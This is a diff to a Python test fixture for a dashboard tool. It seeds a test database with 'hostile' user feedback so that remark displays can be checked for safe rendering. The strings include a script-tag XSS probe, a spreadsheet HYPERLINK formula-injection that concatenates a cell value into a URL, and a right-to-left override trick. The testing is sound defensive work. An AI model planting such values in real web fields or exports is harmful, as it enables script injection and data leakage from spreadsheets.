@@ -19,12 +19,21 @@ from dashboards import Dashboard
 from playwright.sync_api import Browser, BrowserContext, Page, Request, Response, StorageState, expect
 from sharing import make_once
 
+import heedful
 from heedful.simulate import traffic
 from heedful.testing import ManualClock, WordEmbedder
 
 PROJECT = "default"
 UNTIL = datetime(2026, 3, 13, 17, tzinfo=UTC)
 SESSIONS = 40
+HOSTILE = (
+    "<script>alert(1)</script> your bot is broken",
+    '=HYPERLINK("http://example.com/?x="&A1,"Click here for your refund")',
+    "התשובה לא נכונה, ההחזר עדיין לא הגיע אחרי 12 ימים",
+    "لا تزال أموالي غير موجودة 😡😡😡 refund???",
+    "\u202etxet siht daer ot yrt\u202c 👩🏽‍💻👍🏿🇵🇹",
+)
+"""What a page or a table that shows remarks has to bear."""
 
 WATCH = """
 window.shifted = 0;
@@ -155,10 +164,15 @@ def serving(path: Path, clock: ManualClock, browser: Browser) -> Iterator[Served
 
 @pytest.fixture(scope="session")
 def desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A store with a little of everything."""
+    """A store with a little of everything, hostile words among it."""
 
     def fill(folder: Path) -> None:
-        traffic.fill(folder / "desk.db", project=PROJECT, sessions=SESSIONS, until=UNTIL, embedding=WordEmbedder())
+        file = folder / "desk.db"
+        traffic.fill(file, project=PROJECT, days=14, sessions=SESSIONS, until=UNTIL, embedding=WordEmbedder())
+        with heedful.open(file, clock=lambda: UNTIL, embedding=WordEmbedder(), worker=False) as store:
+            for session, words in zip(store.sessions.list(where={"channel": "web"}).items, HOSTILE, strict=False):
+                answer = store.sessions.entries(session.session_id).items[0]
+                store.sessions.add_feedback(session.session_id, answer.qa_id, words, 1)
 
     return make_once(tmp_path_factory, "desk", fill) / "desk.db"
 
